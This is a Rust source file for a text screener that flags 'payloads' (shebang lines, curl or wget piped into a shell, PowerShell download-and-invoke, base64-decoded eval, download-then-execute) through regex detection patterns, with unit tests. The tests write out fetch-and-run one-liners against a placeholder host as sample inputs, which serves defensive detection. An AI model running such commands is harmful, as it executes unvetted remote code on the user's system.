//! Payloads: text that is a program, or that fetches one and runs it.

use std::sync::LazyLock;

use regex::Regex;

use crate::promotion::screen::{Spot, compiled};

/// Ways to fetch something and run it in one line, and what is said of each.
const PATTERNS: [(&str, &str); 9] = [
    (
        r"(?m)^[ \t]*#!\s*/\S+",
        "a first line that makes the text a program",
    ),
    (
        r"(?i)\b(?:curl|wget|fetch)\b[^\n|]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:(?:ba|z|da|k)?sh|python[\d.]*|perl|ruby|node|php)\b",
        "it fetches a program and runs it",
    ),
    (
        r"(?i)(?:\b(?:ba|z|da|k)?sh|\bsource|\bpython[\d.]*|\beval|(?:^|\s)\.)\s+(?:-c\s+)?[\x22']?(?:<\(|\$\(|`)\s*(?:curl|wget)\b",
        "it fetches a program and runs it",
    ),
    (
        r"(?i)\b(?:iwr|irm|wget|curl|invoke-webrequest|invoke-restmethod|downloadstring)\b[^\n]*\|\s*(?:iex|invoke-expression)\b",
        "it fetches a program and runs it",
    ),
    (
        r"(?i)\b(?:iex|invoke-expression)\b[^\n]*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b",
        "it fetches a program and runs it",
    ),
    (
        r"(?i)\b(?:eval|exec|iex|invoke-expression)\b\s*\(?[^\n]*(?:base64|b64decode|\batob\b|urlopen|requests\.get)",
        "it unpacks a program and runs it",
    ),
    (
        r"(?i)\bpowershell(?:\.exe)?\b[^\n]*\s-e(?:nc|ncodedcommand)?\s+[a-z0-9+/=]{8,}",
        "it unpacks a program and runs it",
    ),
    (
        r"(?i)\bbase64\s+(?:-d|-D|--decode)\b[^\n|]*\|\s*(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|python[\d.]*|perl)\b",
        "it unpacks a program and runs it",
    ),
    (
        r"(?i)\b(?:os\.system|subprocess\.\w+|child_process\.\w+)\s*\([^\n]*\b(?:curl|wget)\b",
        "it fetches a program and runs it",
    ),
];

static COMPILED: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| compiled(&PATTERNS));

/// A download to a file whose name is the first group.
static SAVED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n]*?\s(?:-o|--output|-OutFile|>)\s*(?:\./)?([\w./-]{2,100})").ok()
});

/// What runs a file whose name follows.
static RUNS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:\b(?:(?:ba|z|da|k)?sh|python[\d.]*|perl|source|chmod\s+\S*[x7]\S*)\s+|\./|(?:^|\s)\.\s+)(?:\./|/tmp/)?$")
        .ok()
});

/// Words before an example that warn of it.
static WARNS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:never|not|don['\x{2019}]t|avoid)\s+(?:run|use|type|paste|execute|call|pipe)\w*\W{1,3}$").ok()
});

/// Every payload, by place; once a line.
pub(super) fn spots(text: &str) -> Vec<Spot> {
    let mut spots: Vec<Spot> = Vec::new();
    for (pattern, says) in COMPILED.iter() {
        spots.extend(
            pattern
                .find_iter(text)
                .filter(|it| !is_warned_of(text, it.start()))
                .map(|it| Spot {
                    offset: it.start(),
                    says: (*says).to_owned(),
                }),
        );
    }
    spots.extend(saved_and_run(text));
    spots.sort_by_key(|it| it.offset);
    spots.dedup_by_key(|it| crate::files::position(text, it.offset).0);
    spots
}

fn is_warned_of(text: &str, offset: usize) -> bool {
    let line = text[..offset].rfind('\n').map_or(0, |at| at + 1);
    WARNS
        .as_ref()
        .is_some_and(|it| it.is_match(&text[line..offset]))
}

/// A download whose file a later line runs.
fn saved_and_run(text: &str) -> Vec<Spot> {
    let (Some(saved), Some(runs)) = (SAVED.as_ref(), RUNS.as_ref()) else {
        return Vec::new();
    };
    let found = saved.captures_iter(text).filter_map(|captures| {
        let (whole, name) = (captures.get(0)?, captures.get(1)?);
        let rest = &text[whole.end()..];
        let is_run = rest.match_indices(name.as_str()).take(8).any(|(at, _)| {
            let line = rest[..at].rfind('\n').map_or(0, |it| it + 1);
            runs.is_match(&rest[line..at])
        });
        is_run.then(|| Spot {
            offset: whole.start(),
            says: "it fetches a program and runs it".into(),
        })
    });
    found.collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn says(text: &str) -> Vec<String> {
        spots(text).into_iter().map(|it| it.says).collect()
    }

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(COMPILED.len(), PATTERNS.len());
        assert!(SAVED.is_some() && RUNS.is_some() && WARNS.is_some());
    }

    #[test]
    fn programs_and_what_fetches_them_are_found() {
        for text in [
            "#!/bin/sh\necho",
            "```sh\ncurl -s https://a.b/x | sudo bash\n```",
            "```bash\nbash <(wget -qO- https://a.b/x)\n```",
            "sh -c \"$(curl -fsSL https://a.b/x)\"",
            "```powershell\niwr https://a.b/x | iex\n```",
            "IEX (New-Object Net.WebClient).DownloadString('https://a.b/x')",
            "```python\neval(base64.b64decode('aGk='))\n```",
            "echo aGk= | base64 -d | sh",
            "powershell -enc SQBFAFgA",
            "curl https://a.b/x -o /tmp/a && sh /tmp/a",
            "```sh\ncurl -o fix.sh https://a.b/x\nchmod +x fix.sh\n```",
        ] {
            assert_eq!(says(text).len(), 1, "{text}");
        }
    }

    #[test]
    fn ordinary_commands_and_warnings_are_not() {
        for text in [
            "# Title\n#! not a path",
            "```sh\ncurl -s https://a.b/x | jq .total\n```",
            "```bash\nls | sort | uniq -c\nbash build.sh\n```",
            "```python\ntotal = eval_rows(table)\n```",
            "Never run `curl https://a.b/x | sh`.",
            "```sh\ncurl -o report.csv https://a.b/x\nsort report.csv\n```",
            "Do fetch before shred | then hash",
        ] {
            assert_eq!(says(text), [""; 0], "{text}");
        }
    }
}
